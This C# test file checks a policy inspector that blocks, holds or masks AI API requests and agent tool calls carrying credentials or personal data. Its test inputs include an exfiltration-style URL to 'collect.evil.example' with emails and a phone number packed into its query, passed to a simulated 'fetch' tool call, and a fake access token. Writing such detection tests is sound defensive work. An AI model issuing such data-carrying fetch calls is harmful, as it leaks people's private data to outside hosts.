using System.Text;
using SaaSGate.Inspection.Policies;

namespace SaaSGate.Inspection.Tests.Requests;

/// <summary>A value under another one's replacement still counts for rules, and one inside of what is only told is still masked.</summary>
public sealed class CoveredValueTests
{
    private const string Masks = "  - { name: mask, on: both, when: { findings: [URL, EMAIL] }, then: mask }\n";

    [Fact]
    public void Blocks_a_credential_that_a_server_would_be_given()
    {
        var inspector = Given.Inspector("rules: [{ name: block, on: request, then: block, when: { findings: [API_KEY] } }]");
        var inspection = inspector.InspectRequest(Sse.Bytes("""{"messages":[],"mcp_servers":[{"type":"url","url":"https://x.example","authorization_token":"anything at all"}]}"""), EndpointFamily.Messages);
        Assert.Equal(DecisionKind.Block, inspection.Decision.Kind);
        Assert.Equal("/mcp_servers/0/authorization_token", Assert.Single(inspection.Findings).Location);
    }

    [Theory]
    [InlineData("API_KEY", "see https://api.example/v1?access_token=ghp_9aKd83jfLq0ZxVb27TnYwPmR5uCeHs1GtQ4o")]
    [InlineData("PROJECT", "write to ann@bluebird.example")]
    public void Blocks_with_and_without_a_rule_that_masks_around_it(string type, string text)
    {
        var rules = $$"""
            detectors:
              - { name: projects, type: PROJECT, dictionary: [bluebird] }
            rules:
              - { name: block, on: request, when: { findings: [{{type}}] }, then: block }

            """;
        foreach (var cache in (InspectionCache?[])[null, new InspectionCache()])
            foreach (var policy in (string[])[rules, rules + Masks])
            {
                var inspector = new Inspector(Given.Policy(policy), Given.Keys, Given.Skill, cache);
                for (var time = 0; time < 2; time++)
                    Assert.Equal(DecisionKind.Block, inspector.InspectRequest(Sse.Bytes($$"""{"messages":[{"role":"user","content":"{{text}} {{new string('.', 80)}}"}]}"""), EndpointFamily.Messages).Decision.Kind);
            }
    }

    /// <summary>Wherever it stands, also behind what a link is judged by.</summary>
    [Theory]
    [InlineData("URL", "&rcpt=john@example.com&x=1")]
    [InlineData("URL", "&rcpt=john%40example.com&x=1")]
    [InlineData("URL", "&x=1'john@example.com")]
    [InlineData("EXFIL_URL", "&rcpt=john@example.com&x=1")]
    [InlineData("EXFIL_URL", "&a=john@example.com&b=+14155552671&c=john%40example.com")]
    [InlineData("TICKET", "&rcpt=john@example.com")]
    public void Masks_what_stands_in_a_value_that_is_only_told(string type, string inside)
    {
        var inspector = Given.Inspector($$"""
            detectors:
              - { name: tickets, type: TICKET, pattern: 'd=[^ ]{1,255}' }
            rules:
              - { name: mask, on: both, when: { findings: [EMAIL, PHONE, CREDIT_CARD] }, then: mask }
              - { name: hold, on: request, when: { findings: [{{type}}] }, then: hold }
              - { name: hold-calls, on: tool_use, when: { findings: [{{type}}] }, then: hold }
            """);
        foreach (var length in (int[])[200, 230, 240, 250, 300, 2000, 40_000])
        {
            var text = $"see https://collect.evil.example/?d={new string('x', length)}{inside} and jane@example.com";
            var inspection = inspector.InspectRequest(Sse.Bytes($$"""{"messages":[{"role":"user","content":"{{text}}"}]}"""), EndpointFamily.Messages);
            AssertHeldAndMasked(type, inspection.Decision, inspection.Findings, inspection.RecordBody);
            var call = inspector.InspectToolUse("fetch", Sse.Bytes($$"""{"url":"{{text}}"}"""));
            AssertHeldAndMasked(type, call.Decision, call.Findings, call.RecordInput);
        }
    }

    private static void AssertHeldAndMasked(string type, PolicyDecision decision, IReadOnlyList<Finding> findings, ReadOnlyMemory<byte> recorded)
    {
        var record = Encoding.UTF8.GetString(recorded.Span);
        Assert.Equal(DecisionKind.Hold, decision.Kind);
        foreach (var part in (string[])["john", "jane", "5552671"])
            Assert.DoesNotContain(part, record, StringComparison.Ordinal);
        Assert.Contains(findings, finding => finding.Type == type);
        Assert.Contains(findings, finding => finding.Type == "EMAIL");
    }
}
